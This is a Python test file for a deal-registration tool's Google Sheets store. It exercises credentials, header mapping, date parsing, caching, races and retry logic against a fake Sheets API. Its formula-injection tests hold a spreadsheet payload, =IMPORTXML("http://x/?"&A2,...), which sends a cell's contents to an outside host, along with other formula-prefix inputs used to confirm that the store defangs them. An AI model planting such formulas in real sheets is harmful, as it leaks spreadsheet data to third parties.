"""The Google Sheets store, driven through the real gspread client over loopback HTTP to
the fake Sheets API (tests/fakes/sheets_api.py). No test sleeps: the store's clock and
sleep are a FakeClock, except where a slow answer must really time out."""

from __future__ import annotations

import json
import multiprocessing
import threading
from collections.abc import Iterator
from datetime import UTC, datetime, timedelta

import google.auth.exceptions
import gspread
import pytest
from gspread.utils import rowcol_to_a1
from zoneinfo import ZoneInfo

from config.rules import load_rules
from config.settings import Settings
from dealreg.errors import InputError, StoreError, StoreUnavailable
from dealreg.models import Record, Status
from dealreg.normalise import undefang
from handlers.service import Service
from integrations.sheets import SheetsStore, read_layout
from handlers.stores import open_sheets_store, open_store
from integrations.store import Store
from integrations.store.rows import COLUMNS
from tests.fakes.sheets_api import FakeCredentials, FakeSheetsAPI, gspread_client_for, redirect_session_to
from tests.handlers.support import Ids, StepClock, write_rules
from tests.integrations.sheets_support import (
    SID,
    FakeClock,
    PausingService,
    new_sheet,
    reg_row,
    rows_of,
    store_for,
    tab_rows,
)

INJECTION = '=IMPORTXML("http://x/?"&A2,"//a")'
T0 = datetime(2026, 3, 2, 15, 0, tzinfo=UTC)
ACME = {"company_name": "Acme Robotics GmbH", "company_domain": "https://www.acme-robotics.de"}


@pytest.fixture
def rules(tmp_path):
    return load_rules(write_rules(tmp_path))


@pytest.fixture
def clock() -> FakeClock:
    return FakeClock()


@pytest.fixture
def store(api, clock) -> Iterator[SheetsStore]:
    new_sheet(api)
    store = store_for(api, clock=clock)
    yield store
    store.close()


@pytest.fixture
def service(store, rules) -> Service:
    return Service(store, rules, clock=StepClock(), new_id=Ids())


def acme(partner: str = "Northwind Partners", **more: object) -> Record:
    return Record(**{**ACME, "partner": partner, "source": "api", **more})  # type: ignore[arg-type]


def kinds(api: FakeSheetsAPI) -> list[str]:
    return [r.kind for r in api.requests]


def warm(store: SheetsStore, api: FakeSheetsAPI) -> None:
    """Fetch the tab metadata (once per process) and fill the cache, then forget the log."""
    store.changes(None)
    api.reset_log()


# -- opening the store: settings, credentials -------------------------------------------------

def test_the_store_implements_the_protocol(store):
    assert isinstance(store, Store)
    assert store.backend == "sheets"


def test_a_missing_sheet_id_names_the_fix():
    with pytest.raises(StoreError) as info:
        open_store(Settings(_env_file=None, store="sheets"))
    assert str(info.value) == ("Set DEALREG_SHEET_ID to the spreadsheet id (the part of the URL between /d/ and "
                               "/edit).")


def test_missing_credentials_name_the_fix():
    with pytest.raises(StoreError, match="Set DEALREG_GOOGLE_CREDENTIALS to the service account's JSON key: the "
                                         "path of the key file, or the JSON itself"):
        open_store(Settings(_env_file=None, store="sheets", sheet_id=SID))


@pytest.fixture(scope="module")
def service_account_key() -> dict[str, str]:
    from cryptography.hazmat.primitives import serialization
    from cryptography.hazmat.primitives.asymmetric import rsa

    key = rsa.generate_private_key(public_exponent=65537, key_size=2048)
    pem = key.private_bytes(serialization.Encoding.PEM, serialization.PrivateFormat.PKCS8,
                            serialization.NoEncryption()).decode()
    return {"type": "service_account", "project_id": "dealreg-test", "private_key_id": "k1", "private_key": pem,
            "client_email": "dealreg@dealreg-test.iam.gserviceaccount.com", "client_id": "1",
            "token_uri": "https://oauth2.googleapis.com/token"}


@pytest.mark.parametrize("how", ["json", "file"])
def test_credentials_are_the_json_itself_or_a_file_path(tmp_path, service_account_key, api, how):
    text = json.dumps(service_account_key)
    if how == "file":
        path = tmp_path / "key.json"
        path.write_text(text, encoding="utf-8")
        text = str(path)
    store = open_store(Settings(_env_file=None, store="sheets", sheet_id=SID, google_credentials=text))
    assert isinstance(store, SheetsStore)
    assert store.client_email == "dealreg@dealreg-test.iam.gserviceaccount.com"
    assert store.api.client.http_client.timeout == (5.0, 10.0)  # no request can outlive the deadline
    assert api.count() == 0  # nothing is sent before the store is used


@pytest.mark.parametrize(("value", "message"), [
    ("/nonexistent/key.json", "no such file"),
    ("{not json", "is not JSON"),
    ('{"installed": {"client_id": "x"}}', "is not a service-account key"),
    ('{"type": "service_account", "client_email": "a@b"}', "lacks private_key, token_uri"),
])
def test_unusable_credentials_are_refused_with_the_fix_and_without_the_secret(value, message):
    with pytest.raises(StoreError) as info:
        open_store(Settings(_env_file=None, store="sheets", sheet_id=SID, google_credentials=value))
    assert message in str(info.value)
    assert "client_id" not in str(info.value)


def test_the_sheet_id_may_be_pasted_as_the_url(api):
    settings = Settings(_env_file=None, store="sheets", sheets_api_url=api.base_url,
                        sheet_id=f"https://docs.google.com/spreadsheets/d/{SID}/edit#gid=0")
    assert open_sheets_store(settings).sheet_id == SID


def test_sheets_api_url_points_the_store_at_an_emulator_by_settings_alone(api, rules):
    new_sheet(api)
    store = open_store(Settings(_env_file=None, store="sheets", sheet_id=SID, sheets_api_url=api.base_url))
    decision = Service(store, rules).register(acme())
    assert decision.status.value == "clear"
    assert [r["partner"] for r in rows_of(api, "Registrations")] == ["Northwind Partners"]
    assert {r.param("valueInputOption") for r in api.requests} == {None}  # cells go as stringValue, no parsing


# -- the layout -------------------------------------------------------------------------------

REG = list(COLUMNS["registrations"])


@pytest.mark.parametrize(("header", "problems", "extra"), [
    (REG, [], ()),
    (list(reversed(REG)) + ["notes"], [], ("notes",)),
    (["Registration ID", "Submitted At"] + REG[2:], [], ()),  # case, spaces
    (["notes"] + REG[:4] + ["compnay_name"] + REG[5:], [
        "Registrations: column 'compnay_name' (F1) is not a dealreg column — did you mean 'company_name'? "
        "Rename the header cell, or add the missing column 'company_name'"], ("notes", "compnay_name")),
    ([c for c in REG if c != "duns"], [
        "Registrations: missing column 'duns'; add a header cell 'duns' (any position; extra columns are fine)"], ()),
    (REG + ["owner"], ["Registrations: column 'owner' appears twice (S1 and AF1); delete or rename one"], ()),
    ([], ["Registrations: the header row (row 1) is empty; run `dealreg init-sheet` to create the tabs and check "
          "the headers"], ()),
])
def test_the_header_row_is_mapped_by_name_and_problems_name_the_fix(header, problems, extra):
    layout = read_layout("registrations", "Registrations", header)
    assert list(layout.problems) == problems
    assert layout.extra == extra
    if not problems:
        assert {header[i] for i in layout.columns.values()} <= set(header)
        assert set(layout.columns) == set(REG)


def test_a_missing_tab_or_a_misspelt_column_stops_the_store_with_the_fix(api, clock):
    new_sheet(api, named_accounts=None)
    with pytest.raises(StoreError, match="no tab 'Named accounts'.*dealreg init-sheet"):
        store_for(api, clock=clock).changes(None)
    api.reset()
    header = [c if c != "company_name" else "compnay_name" for c in REG]
    new_sheet(api, registrations=[header])
    with pytest.raises(StoreError, match="did you mean 'company_name'"):
        store_for(api, clock=clock).changes(None)


# -- reads and the cache ----------------------------------------------------------------------

def test_a_cold_read_is_one_batch_get_of_every_tab_and_a_warm_one_is_free(store, api, clock):
    changes = store.changes(None)
    assert changes.reset and changes.registrations == ()
    assert kinds(api) == ["spreadsheets.get", "values.batchGet"]  # the metadata only once per process
    assert api.requests[1].query["ranges"] == ["'Registrations'", "'Partners'", "'Territories'",
                                               "'Named accounts'", "'Aliases'", "'Decisions'!1:1"]
    assert api.requests[1].param("valueRenderOption") == "UNFORMATTED_VALUE"
    api.reset_log()
    assert store.changes(changes.cursor).registrations == ()
    assert store.partners() == () and store.named_accounts() == ()
    assert api.count() == 0
    clock.advance(30)  # DEALREG_SHEETS_CACHE_SECONDS
    store.changes(changes.cursor)
    assert kinds(api) == ["values.batchGet"]


def test_rows_appended_elsewhere_come_incrementally_and_hand_edits_rebuild(store, api, clock):
    first = reg_row("R-000000000001", "Acme", "acme.com", "Northwind", "2026-03-01T10:00:00+00:00")
    api.set_values(SID, "Registrations", tab_rows("registrations", [first]))
    start = store.changes(None)
    assert [r.registration_id for r in start.registrations] == ["R-000000000001"]

    second = reg_row("R-000000000002", "Globex", "globex.com", "Contoso", "2026-03-01T11:00:00+00:00")
    api.set_values(SID, "Registrations", tab_rows("registrations", [first, second]))  # another instance appended
    assert store.changes(start.cursor).registrations == ()  # warm: not seen yet, and no call
    clock.advance(31)
    appended = store.changes(start.cursor)
    assert not appended.reset and appended.cursor.epoch == start.cursor.epoch
    assert [r.registration_id for r in appended.registrations] == ["R-000000000002"]

    edited = {**first, "state": "won"}  # a partner manager closes the deal by hand
    api.set_values(SID, "Registrations", tab_rows("registrations", [edited, second]))
    clock.advance(31)
    rebuilt = store.changes(appended.cursor)
    assert rebuilt.reset and rebuilt.cursor.epoch != start.cursor.epoch
    assert [r.state for r in rebuilt.registrations] == ["won", "open"]

    api.set_values(SID, "Partners", tab_rows("partners", [{"partner": "Northwind"}]))
    clock.advance(31)
    again = store.changes(rebuilt.cursor)
    assert again.reset and again.partners == ("Northwind",)


def test_numbers_and_dates_typed_by_hand_are_read_as_values(store, api):
    row = reg_row("R-000000000001", "Acme", "acme.com", "Northwind", "2026-03-02", deal_value="48,000",
                  employees="250", duns="012345678")
    api.set_values(SID, "Registrations", tab_rows("registrations", [row]), user_entered=True)
    assert api.cell_kind(SID, "Registrations", "H2") == "number"  # the sheet dropped the leading zero …
    [reg] = store.changes(None).registrations
    assert (reg.deal_value, reg.employees, reg.duns) == (48000, 250, "012345678")  # … and dealreg puts it back
    assert reg.submitted_at == datetime(2026, 3, 2, tzinfo=UTC)


def test_a_row_that_cannot_be_read_is_quarantined_naming_the_cell_never_read_as_clear(store, service, api):
    good = reg_row("R-000000000001", "Acme Robotics", "acme-robotics.de", "Northwind Partners",
                   "2026-03-01T10:00:00+00:00")
    bad = reg_row("R-000000000002", "Globex", "globex.com", "Contoso", "2026-03-01T11:00:00+00:00", deal_value="TBD")
    api.set_values(SID, "Registrations", tab_rows("registrations", [good, bad]))
    assert service.check(acme()).status.value == "duplicate"  # the readable rows still decide
    decision = service.check(acme(company_name="Globex", company_domain="globex.com"))
    assert decision.status.value == "needs_review"
    assert "Registrations row 3 (R-000000000002): deal_value (O3): 'TBD' is not a number" in decision.reason
    assert service.health().facts["fix"] == ["Registrations row 3 (R-000000000002): deal_value (O3): 'TBD' is not "
                                             "a number; write it like 48000, 48,000.50, 48.000,50, $48k or 48000 EUR"]


def test_a_row_appended_by_hand_that_cannot_be_read_is_quarantined_on_the_warm_path(store, service, api):
    good = reg_row("R-000000000001", "Acme Robotics", "acme-robotics.de", "Northwind Partners",
                   "2026-03-01T10:00:00+00:00")
    api.set_values(SID, "Registrations", tab_rows("registrations", [good]))
    service.check(acme())  # warm
    bad = reg_row("R-000000000002", "Globex", "globex.com", "Contoso", "the first of March")
    api.set_values(SID, "Registrations", tab_rows("registrations", [good, bad]))  # appended: same epoch
    store.invalidate()  # as when the cache time is up
    assert service.check(acme(company_name="Globex", company_domain="globex.com")).status.value == "needs_review"
    assert service.check(acme()).status.value == "duplicate"


def test_reference_rows_that_cannot_be_read_are_quarantined(store, service, api):
    api.set_values(SID, "Named accounts", tab_rows("named-accounts", [
        {"owner": "direct", "company_name": "Initech", "company_domain": "initech.com", "duns": "12"}]))
    api.set_values(SID, "Territories", tab_rows("territories", [
        {"partner": "Contoso", "countries": "DE", "min_employees": "ten"}]))
    named = service.check(acme(company_name="Initech", company_domain="initech.com"))
    assert named.status.value == "needs_review" and "Named accounts row 2" in named.reason
    assert "duns (E2) '12'" in named.reason
    service.register(acme("Northwind", country="DE"))
    overlap = service.register(acme("Contoso", country="DE"))  # a territory of Contoso cannot be read
    assert overlap.status.value == "needs_review" and "Territories row 2" in overlap.reason
    assert "min_employees (E2): 'ten' is not a number" in overlap.reason
    assert len(service.health().facts["fix"]) == 2


# -- dates as a spreadsheet shows them ----------------------------------------------------------

def cell_of(column: str, row: int = 2) -> str:
    """The A1 cell of one of our columns in SPEC's order (`submitted_at` -> B2)."""
    return rowcol_to_a1(row, REG.index(column) + 1)


def hand_typed(api: FakeSheetsAPI, submitted: str, expires: str = "", rid: str = "R-000000000009",
               partner: str = "Contoso Consulting", row: int = 2) -> None:
    """A registration row whose dates a partner manager typed into the Sheet (the rest as dealreg writes)."""
    on_file = reg_row(rid, "Acme Robotics GmbH", "acme-robotics.de", partner, "")
    api.hand_edit(SID, "Registrations", f"A{row}", [[f"'{on_file[c]}" if on_file.get(c) else "" for c in REG]])
    api.hand_edit(SID, "Registrations", cell_of("submitted_at", row), [[submitted]])
    if expires:
        api.hand_edit(SID, "Registrations", cell_of("expires_at", row), [[expires]])


NEW_YORK, BERLIN = ZoneInfo("America/New_York"), ZoneInfo("Europe/Berlin")


@pytest.mark.parametrize(("locale", "time_zone", "typed", "expires", "submitted_at", "expires_at"), [
    ("en_US", "America/New_York", "12/1/2026", "3/1/2027", datetime(2026, 12, 1, tzinfo=NEW_YORK),
     datetime(2027, 3, 1, tzinfo=NEW_YORK)),
    ("en_US", "America/New_York", "12/1/2026 14:30", "", datetime(2026, 12, 1, 14, 30, tzinfo=NEW_YORK), None),
    ("de_DE", "Europe/Berlin", "1.12.2026", "1.3.2027", datetime(2026, 12, 1, tzinfo=BERLIN),
     datetime(2027, 3, 1, tzinfo=BERLIN)),
    ("en_GB", "Etc/GMT", "01/12/2026", "01/03/2027", datetime(2026, 12, 1, tzinfo=UTC),
     datetime(2027, 3, 1, tzinfo=UTC)),
    ("en_GB", "Etc/GMT", "2026-12-01", "", datetime(2026, 12, 1, tzinfo=UTC), None),  # ISO typed: a date cell too
])
def test_a_date_typed_as_the_spreadsheet_shows_dates_is_read_in_its_locale_and_time_zone(
        api, clock, rules, locale, time_zone, typed, expires, submitted_at, expires_at):
    new_sheet(api, locale=locale, time_zone=time_zone)
    hand_typed(api, typed, expires)
    assert api.cell_kind(SID, "Registrations", "B2") == "date"  # Sheets made it a date serial
    store = store_for(api, clock=clock)
    [reg] = store.changes(None).registrations
    assert (reg.submitted_at, reg.expires_at) == (submitted_at, expires_at)
    assert reg.submitted_at.utcoffset() == timedelta(0)  # one moment, in UTC like every registration
    decision = Service(store, rules, clock=StepClock(submitted_at + timedelta(days=1)), new_id=Ids()).check(acme())
    assert (decision.status.value, decision.owner, decision.matched_registration_id) == (
        "conflict", "Contoso Consulting", "R-000000000009")  # the hand-typed claim still counts


def test_a_cell_formatted_as_a_date_is_read_by_its_serial_number(api, clock):
    new_sheet(api, locale="de_DE", time_zone="Europe/Berlin")
    hand_typed(api, "46357")  # a number, then Format → Number → Date
    ws = gspread_client_for(api.base_url).open_by_key(SID).worksheet("Registrations")
    ws.format("B2", {"numberFormat": {"type": "DATE"}})
    assert ws.get("B2") == [["01.12.2026"]]  # what the partner manager sees
    [reg] = store_for(api, clock=clock).changes(None).registrations
    assert reg.submitted_at == datetime(2026, 12, 1, tzinfo=BERLIN)


@pytest.mark.parametrize(("locale", "typed", "submitted_at"), [
    ("de_DE", "'1.12.2026", datetime(2026, 12, 1, tzinfo=UTC)),
    ("en_US", "'12/1/2026", datetime(2026, 12, 1, tzinfo=UTC)),
    ("en_GB", "'01/12/2026 09:30", datetime(2026, 12, 1, 9, 30, tzinfo=UTC)),
    ("en_US", "'2026-12-01T09:30", datetime(2026, 12, 1, 9, 30, tzinfo=UTC)),
    ("en_US", "'2026-12-01T09:30:00-05:00", datetime(2026, 12, 1, 14, 30, tzinfo=UTC)),  # its own offset wins
])
def test_a_date_kept_as_text_is_read_in_the_spreadsheets_locale(api, clock, locale, typed, submitted_at):
    new_sheet(api, locale=locale)
    hand_typed(api, typed)
    assert api.cell_kind(SID, "Registrations", "B2") == "text"
    [reg] = store_for(api, clock=clock).changes(None).registrations
    assert reg.submitted_at == submitted_at


def test_a_plain_text_column_is_read_in_the_spreadsheets_locale(api, clock):
    new_sheet(api, locale="en_GB")
    api.set_number_format(SID, "Registrations", "B:B", "TEXT")  # Format → Number → Plain text
    hand_typed(api, "01/12/2026")
    assert api.cell_kind(SID, "Registrations", "B2") == "text"
    [reg] = store_for(api, clock=clock).changes(None).registrations
    assert reg.submitted_at == datetime(2026, 12, 1, tzinfo=UTC)


def test_only_the_impossible_date_is_refused_and_its_row_quarantined_naming_the_cell(api, clock):
    new_sheet(api, locale="en_GB")
    hand_typed(api, "'01/12/2026", row=2)  # fine in en_GB
    hand_typed(api, "31/02/2026", rid="R-000000000010", row=3)  # no 31 February: Sheets keeps it as text
    changes = store_for(api, clock=clock).changes(None)
    assert [r.registration_id for r in changes.registrations] == ["R-000000000009"]
    assert [q.describe() for q in changes.quarantined] == [
        "Registrations row 3 (R-000000000010): submitted_at (B3): '31/02/2026' is not a date (use YYYY-MM-DD or an "
        "ISO-8601 time)"]


def test_dates_come_from_one_read_with_the_metadata_fetched_once(store, api):
    hand_typed(api, "12/1/2026")
    store.changes(None)
    assert kinds(api) == ["spreadsheets.get", "values.batchGet"]
    assert (api.requests[1].param("valueRenderOption"), api.requests[1].param("dateTimeRenderOption")) == (
        "UNFORMATTED_VALUE", "SERIAL_NUMBER")
    [row] = store.read_rows("registrations")  # dealreg export: the date as ISO-8601 too
    assert row["submitted_at"] == "2026-12-01T00:00:00+00:00"


@pytest.mark.parametrize(("time_zone", "submitted_at"), [
    ("GMT-07:00", datetime(2026, 12, 1, 7, tzinfo=UTC)),  # Google's form for a zone it does not recognise
    ("UTC", datetime(2026, 12, 1, tzinfo=UTC)),
])
def test_a_custom_time_zone_is_an_offset(api, clock, time_zone, submitted_at):
    new_sheet(api, time_zone=time_zone)
    hand_typed(api, "12/1/2026")
    [reg] = store_for(api, clock=clock).changes(None).registrations
    assert reg.submitted_at == submitted_at


def test_a_time_zone_this_python_does_not_know_stops_the_read_with_the_fix(api, clock):
    new_sheet(api, time_zone="Mars/Olympus_Mons")
    hand_typed(api, "12/1/2026")
    with pytest.raises(StoreError, match="time zone 'Mars/Olympus_Mons' is not in the time zone database, so a date "
                                         "typed without one cannot be placed; choose another under File → Settings"):
        store_for(api, clock=clock).changes(None)


# -- formula injection ------------------------------------------------------------------------

@pytest.mark.parametrize("text", [INJECTION, "+1", "-1", "@SUM(1)", "\t=1", "\r=1"])
def test_text_that_looks_like_a_formula_is_written_as_text_and_reads_back_exactly(store, service, api, text):
    service.register(acme(company_name=text, contact_name=text))
    [row] = rows_of(api, "Registrations")
    assert row["company_name"] == "'" + text  # defanged in the cell …
    assert api.cell_kind(SID, "Registrations", "E2") == "text"
    assert not api.cell_is_formula(SID, "Registrations", "E2")
    assert not api.cell_is_formula(SID, "Decisions", "G2")
    [back] = store.read_rows("registrations")
    assert (back["company_name"], back["contact_name"]) == (text, text)  # … and exactly the text when read
    store.invalidate()
    [reg] = store.changes(None).registrations
    assert reg.company_name == text.strip()  # the shared row converter strips whitespace, like every store
    [write] = [r for r in api.requests if r.kind == "spreadsheets.batchUpdate"]
    values = [cell["userEnteredValue"] for req in write.body["requests"]
              for row in req["appendCells"]["rows"] for cell in row["values"] if cell]
    assert values and all(set(v) == {"stringValue"} for v in values)  # nothing is ever a formula


def test_undefang_only_undoes_defang():
    assert [undefang(t) for t in ("'=1", "'+1", "'abc", "''=1", "=1", "")] == ["=1", "+1", "'abc", "''=1", "=1", ""]


# -- API calls per action ---------------------------------------------------------------------

def test_api_calls_per_action(store, service, api, rules, clock):
    """The numbers the quota arithmetic of docs/sheets.md rests on."""
    service.check(acme())  # cold: the tab metadata (once per process) and one batchGet
    assert kinds(api) == ["spreadsheets.get", "values.batchGet"]
    api.reset_log()

    service.check(acme())  # warm check
    assert api.count() == 0

    assert store.flush() == 2  # the buffered check events: one write per 50 events or per cache period
    assert kinds(api) == ["spreadsheets.batchUpdate"]
    api.reset_log()

    clock.advance(30)
    service.check(acme())  # cold check
    assert kinds(api) == ["values.batchGet"]
    api.reset_log()

    service.register(acme(source="typeform", external_id="tok-1"))  # registration
    assert kinds(api) == ["values.batchGet", "spreadsheets.batchUpdate", "values.get"]
    api.reset_log()

    service.register(acme(source="typeform", external_id="tok-1"))  # redelivery to the same instance
    assert api.count() == 0

    other = Service(store_for(api, clock=clock), rules)  # another instance, cold
    other.store.changes(None)
    api.reset_log()
    again = other.register(acme(source="typeform", external_id="tok-1"))  # row in its cache: the event only
    assert kinds(api) == ["values.get"]
    assert again == service.register(acme(source="typeform", external_id="tok-1"))  # exactly the first decision
    api.reset_log()

    third = Service(store_for(api, clock=clock), rules)  # a new instance (a Lambda cold start)
    api.reset_log()
    third.register(acme(source="typeform", external_id="tok-1"))  # the fresh read finds the row, then the event
    assert kinds(api) == ["spreadsheets.get", "values.batchGet", "values.get"]
    assert len(rows_of(api, "Registrations")) == 1


# -- registering: idempotency, displacement, the layout kept ---------------------------------

def test_a_redelivery_returns_the_first_decision_and_writes_nothing(store, service, api):
    first = service.register(acme(source="typeform", external_id="tok-1"))
    assert service.register(acme("Contoso Consulting", source="typeform", external_id="tok-1")) == first
    assert (len(rows_of(api, "Registrations")), len(rows_of(api, "Decisions"))) == (1, 1)
    assert rows_of(api, "Registrations")[0]["external_id"] == "tok-1"


def test_a_redelivery_of_a_row_edited_by_hand_into_something_unreadable_is_needs_review(store, service, api):
    row = reg_row("R-7", "Acme Robotics GmbH", "acme-robotics.de", "Contoso Consulting", "2026-03-01T10:00:00+00:00",
                  source="typeform", external_id="tok-7", status="approved")  # no register event for it either
    api.set_values(SID, "Registrations", tab_rows("registrations", [row]))
    decision = service.register(acme(source="typeform", external_id="tok-7"))
    assert (decision.status, decision.rule, decision.owner, decision.matched_registration_id) == (
        Status.NEEDS_REVIEW, "quarantine", "", "R-7")
    assert decision.reason.startswith("This submission was registered before as R-7, which cannot be read")
    assert len(rows_of(api, "Registrations")) == 1  # never registered twice


def test_a_late_claim_wins_and_its_displaced_rows_are_rewritten_in_the_same_request(store, service, api):
    later = service.register(acme("Contoso Consulting", submitted_at=T0))
    api.reset_log()
    late = service.register(acme("Northwind Partners", submitted_at=T0 - timedelta(days=2)))  # a Typeform retry
    assert (late.status.value, late.owner, late.displaced) == ("conflict", "Northwind Partners",
                                                                (later.registration_id,))
    assert kinds(api) == ["values.batchGet", "spreadsheets.batchUpdate", "values.get"]
    [write] = [r.body["requests"] for r in api.requests if r.kind == "spreadsheets.batchUpdate"]
    assert [next(iter(r)) for r in write] == ["appendCells", "appendCells", "updateCells"]
    rows = rows_of(api, "Registrations")
    assert {r["owner"] for r in rows} == {"Northwind Partners"}
    assert rows[0]["reason"].startswith(f"Superseded by {late.registration_id}")


def test_columns_in_another_order_and_extra_columns_are_kept(api, clock, rules):
    header = ["notes"] + list(reversed(REG[:13])) + ["status (manager)"] + REG[13:]
    on_file = {**reg_row("R-000000000009", "Acme Robotics", "acme-robotics.de", "Contoso Consulting",
                         "2026-03-01T10:00:00+00:00"), "notes": "call Jana on Monday", "status (manager)": "hot"}
    new_sheet(api, registrations=tab_rows("registrations", [on_file], header),
              decisions=tab_rows("decisions", [], ["comment", *COLUMNS["decisions"]]))
    store = store_for(api, clock=clock)
    service = Service(store, rules, clock=StepClock(), new_id=Ids())
    service.register(acme(submitted_at=T0 - timedelta(days=5)))  # earlier than the row on file: displaces it
    service.register(acme("direct"))
    values = api.values(SID, "Registrations")
    assert values[0] == header
    rows = rows_of(api, "Registrations")
    assert (rows[0]["notes"], rows[0]["status (manager)"]) == ("call Jana on Monday", "hot")  # untouched
    assert rows[0]["owner"] == "Northwind Partners"  # … though the row was rewritten
    assert [(r["registration_id"], r["partner"], r["notes"]) for r in rows[1:]] == [
        ("R-000000000001", "Northwind Partners", ""), ("R-000000000002", "direct", "")]
    assert all(r["company_name"] and r["submitted_at"] for r in rows)  # our values under our headers
    assert [r["comment"] for r in rows_of(api, "Decisions")] == ["", ""]
    assert [r["registration_id"] for r in rows_of(api, "Decisions")] == ["R-000000000001", "R-000000000002"]


def test_a_decision_that_fails_writes_nothing(store, service, api):
    with pytest.raises(InputError):
        service.register(acme(duns="12"))  # a DUNS the engine cannot key on
    assert rows_of(api, "Registrations") == [] and api.count(kind="spreadsheets.batchUpdate") == 0


# -- races: no compare-and-set, so append, re-read and re-decide ---------------------------

def _race(api, clock, rules, first_at: datetime, second_at: datetime):
    """Writer A reads, then waits while writer B registers entirely; then A writes."""
    a, b = store_for(api, clock=clock), store_for(api, clock=clock)
    a_read, b_done = threading.Event(), threading.Event()

    def pause(n: int) -> None:  # A has made its fresh read (decide is called after it); hold A there
        if n == 0:
            a_read.set()
            assert b_done.wait(10)

    a_service = PausingService(a, rules, "R-00000000000a", T0, before=pause)
    result: dict[str, object] = {}
    thread = threading.Thread(target=lambda: result.update(
        a=a_service.register(acme("Northwind Partners", submitted_at=first_at))))
    thread.start()
    assert a_read.wait(10)
    result["b"] = PausingService(b, rules, "R-00000000000b", T0).register(
        acme("Contoso Consulting", submitted_at=second_at))
    b_done.set()
    thread.join(10)
    return result["a"], result["b"], a_service


def test_race_a_claim_that_sorts_first_corrects_the_later_writer(api, clock, rules):
    new_sheet(api)
    # B submitted first and finished first; A never saw it before writing.
    a, b, a_decide = _race(api, clock, rules, T0 - timedelta(hours=1), T0 - timedelta(hours=2))
    assert (b.status.value, b.owner) == ("clear", "Contoso Consulting")
    assert (a.status.value, a.owner) == ("conflict", "Contoso Consulting")
    assert len(a_decide.calls) == 2  # decided, then re-decided against the concurrent claim
    rows = {r["registration_id"]: r for r in rows_of(api, "Registrations")}
    assert {r["owner"] for r in rows.values()} == {"Contoso Consulting"}
    assert (rows["R-00000000000a"]["status"], rows["R-00000000000b"]["status"]) == ("conflict", "clear")
    events = [e for e in rows_of(api, "Decisions") if e["registration_id"] == "R-00000000000a"]
    assert [e["status"] for e in events] == ["clear", "conflict"]  # the correcting event follows the first


def test_race_a_claim_sorting_first_but_written_last_displaces_the_finished_one(api, clock, rules):
    new_sheet(api)
    # A submitted first, but B was written (and answered) before A's write landed.
    a, b, _ = _race(api, clock, rules, T0 - timedelta(hours=2), T0 - timedelta(hours=1))
    assert b.owner == "Contoso Consulting"  # B could not know; its row is rewritten below
    assert a.owner == "Northwind Partners"
    rows = {r["registration_id"]: r for r in rows_of(api, "Registrations")}
    assert {r["owner"] for r in rows.values()} == {"Northwind Partners"}
    assert (rows["R-00000000000a"]["status"], rows["R-00000000000b"]["status"]) == ("clear", "conflict")
    assert rows["R-00000000000b"]["reason"].startswith("Superseded by R-00000000000a")
    assert api.count(kind="spreadsheets.batchUpdate") == 3  # B's write, A's write, A's rewrite of B


def test_two_threads_of_one_process_are_serialised(store, service, api):
    gate = threading.Barrier(2, timeout=10)
    results: list[object] = []

    def register(partner: str) -> None:
        gate.wait()
        results.append(service.register(acme(partner)))

    threads = [threading.Thread(target=register, args=(p,)) for p in ("Northwind Partners", "Contoso Consulting")]
    for t in threads:
        t.start()
    for t in threads:
        t.join(10)
    assert sorted(d.status.value for d in results) == ["clear", "conflict"]  # type: ignore[attr-defined]
    assert len({d.owner for d in results}) == 1  # type: ignore[attr-defined]
    assert api.count(kind="spreadsheets.batchUpdate") == 2  # no race, so no correction


def _register_rounds(base_url: str, rules_path: str, partner: str, submitted: list[str], barrier, results) -> None:
    """One process, its own store on the fake: register one claim per round, in step with the other."""
    settings = Settings(_env_file=None, store="sheets", sheet_id=SID, sheets_api_url=base_url, rules=rules_path)
    service = Service(open_store(settings), load_rules(settings.rules))
    out = []
    for n, when in enumerate(submitted):
        record = Record(company_name=f"Round {n} Robotics", company_domain=f"round{n}-robotics.de",
                        partner=partner, source="api", submitted_at=datetime.fromisoformat(when))
        barrier.wait(timeout=60)
        out.append(service.register(record).fields())
    results.put((partner, out))


def test_two_processes_registering_one_account_at_the_same_moment_end_with_one_owner(api, tmp_path):
    """Each round, two processes register the same account with the same submitted_at:
    the tie goes to the smaller registration id, and both rows must say so."""
    new_sheet(api)
    rounds = 6
    when = [(datetime.now(UTC) - timedelta(hours=1)).isoformat()] * rounds
    context = multiprocessing.get_context("spawn")
    barrier, results = context.Barrier(2), context.Queue()
    rules_path = str(write_rules(tmp_path))
    processes = [context.Process(target=_register_rounds,
                                 args=(api.base_url, rules_path, partner, when, barrier, results))
                 for partner in ("Northwind Partners", "Contoso Consulting")]
    for p in processes:
        p.start()
    try:
        answers = dict(results.get(timeout=120) for _ in processes)
    finally:
        for p in processes:
            p.join(timeout=30)
            if p.is_alive():
                p.kill()
    assert [p.exitcode for p in processes] == [0, 0]
    rows = rows_of(api, "Registrations")
    assert len(rows) == 2 * rounds
    for n in range(rounds):
        mine = [r for r in rows if r["company_name"] == f"Round {n} Robotics"]
        first = min(mine, key=lambda r: r["registration_id"])
        assert {r["owner"] for r in mine} == {first["partner"]}, mine  # one owner, both rows say so
        assert {answers[p][n]["registration_id"] for p in answers} == {r["registration_id"] for r in mine}
    assert api.count(kind="spreadsheets.batchUpdate") >= 2 * rounds


# -- ambiguous failures, quota, faults --------------------------------------------------------

@pytest.mark.parametrize("fault", ["503-after-write", "reset-after-write"])
def test_a_write_applied_before_an_error_is_found_by_the_retry_not_repeated(store, service, api, clock, fault):
    warm(store, api)
    api.inject("spreadsheets.batchUpdate", fault)
    decision = service.register(acme(source="typeform", external_id="tok-1"))
    assert decision.status.value == "clear" and decision.registration_id == "R-000000000001"
    assert kinds(api) == ["values.batchGet", "spreadsheets.batchUpdate", "values.batchGet"]  # found: not re-sent
    assert (len(rows_of(api, "Registrations")), len(rows_of(api, "Decisions"))) == (1, 1)
    assert len(clock.slept) == 1


@pytest.mark.parametrize("fault", [500, 503, "reset"])
def test_a_write_that_failed_is_written_once_after_a_fresh_read(store, service, api, fault):
    warm(store, api)
    api.inject("spreadsheets.batchUpdate", fault)
    service.register(acme())
    assert kinds(api) == ["values.batchGet", "spreadsheets.batchUpdate", "values.batchGet",
                          "spreadsheets.batchUpdate", "values.get"]
    assert (len(rows_of(api, "Registrations")), len(rows_of(api, "Decisions"))) == (1, 1)


def test_a_429_storm_is_ridden_out_with_backoff_and_no_duplicate_rows(store, service, api, clock):
    warm(store, api)
    api.inject("values.batchGet", 429, times=3)
    api.inject("spreadsheets.batchUpdate", 429, times=3)
    service.register(acme())
    assert kinds(api) == ["values.batchGet"] * 4 + ["spreadsheets.batchUpdate"] * 4 + ["values.get"]
